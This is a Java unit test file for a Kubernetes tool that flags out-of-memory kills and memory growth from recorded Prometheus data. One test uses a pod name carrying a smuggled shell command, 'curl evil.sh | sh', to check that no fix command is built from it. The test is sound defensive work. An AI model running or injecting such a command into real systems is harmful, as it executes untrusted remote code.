package io.kubemate.tools.inspect;

import io.kubemate.tools.Fixtures;
import io.kubemate.tools.kube.ClusterAccess;
import io.kubemate.tools.kube.Subject;
import io.kubemate.tools.metrics.PrometheusClient;
import io.kubemate.tools.metrics.PromqlScope;
import io.kubemate.tools.outcome.Outcome;
import io.kubemate.tools.sandbox.SandboxCluster;
import io.kubemate.tools.scope.NamespaceScope;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** OOM kills in the window and steady memory growth, over recorded kube-state-metrics and cAdvisor answers. */
class ContainerMemoryInspectionTest {

    private final RecordedPrometheus prometheus = new RecordedPrometheus();

    @AfterEach
    void stop() {
        prometheus.close();
    }

    private static String recording(String name) throws Exception {
        return Files.readString(Fixtures.resource("inspect/container-memory/" + name + ".json"));
    }

    private List<Finding> inspect(String namespace) throws Exception {
        PrometheusClient client = new PrometheusClient("default", prometheus.url(), false, Duration.ofSeconds(2));
        try (ClusterAccess cluster = SandboxCluster.start(Fixtures.resource("inspect/container-memory"), null)) {
            return new ContainerMemoryInspection(() -> Outcome.ok(client))
                    .inspect(new InspectionScope(cluster, Subject.ownCredentials(), namespace, Fixtures.CLOCK.instant()));
        }
    }

    @Test
    void reports_oom_kills_and_steady_growth_once_per_workload() throws Exception {
        prometheus.answer(ContainerMemoryInspection.OOM_KILLED, recording("oom-killed"))
                .answer(ContainerMemoryInspection.STEADY_GROWTH, recording("steady-growth"));
        List<Finding> findings = inspect(null);
        assertEquals(Set.of("container-oom-killed Deployment risk/risk-engine", "container-oom-killed Pod reports/report-gen-29342400-k2m9x",
                        "container-memory-growth Deployment payments/payment-api"),
                findings.stream().map(f -> f.check() + " " + f.kind() + " " + f.namespace() + "/" + f.name()).collect(Collectors.toSet()));
        assertEquals(3, findings.size(), findings.toString());
        Finding growth = findings.stream().filter(f -> f.check().equals("container-memory-growth")).findFirst().orElseThrow();
        assertTrue(growth.problem().contains("container api grew 45% in memory over 24 h"), growth.problem());
        assertEquals("kubectl -n payments top pod payment-api-7d9f8b6c5d-x2k4p --containers", growth.fix());
        Finding oom = findings.stream().filter(f -> f.name().equals("risk-engine")).findFirst().orElseThrow();
        assertEquals(RunbookIds.CRASHLOOP, oom.runbook());
        assertEquals(Severity.WARNING, oom.severity());
    }

    @Test
    void a_namespace_inspection_asks_about_that_namespace_only() throws Exception {
        String scoped = ((Outcome.Ok<String>) PromqlScope.restrict(ContainerMemoryInspection.OOM_KILLED,
                NamespaceScope.only(Set.of("risk")))).value();
        prometheus.answer(scoped, recording("oom-killed"));
        List<Finding> findings = inspect("risk");
        assertTrue(prometheus.asked().stream().allMatch(q -> q.contains("namespace=\"risk\"")), prometheus.asked().toString());
        assertEquals(List.of("risk-engine"), findings.stream().map(Finding::name).toList(), "other namespaces' series are dropped");
    }

    @Test
    void no_command_is_offered_for_labels_no_kubernetes_name_could_have() throws Exception {
        prometheus.answer(ContainerMemoryInspection.OOM_KILLED, """
                {"status":"success","data":{"resultType":"vector","result":[
                 {"metric":{"namespace":"risk","pod":"x; curl evil.sh | sh","container":"engine"},"value":[1795424400,"1"]}]}}""");
        Finding finding = inspect(null).getFirst();
        assertEquals(null, finding.fix());
    }
}
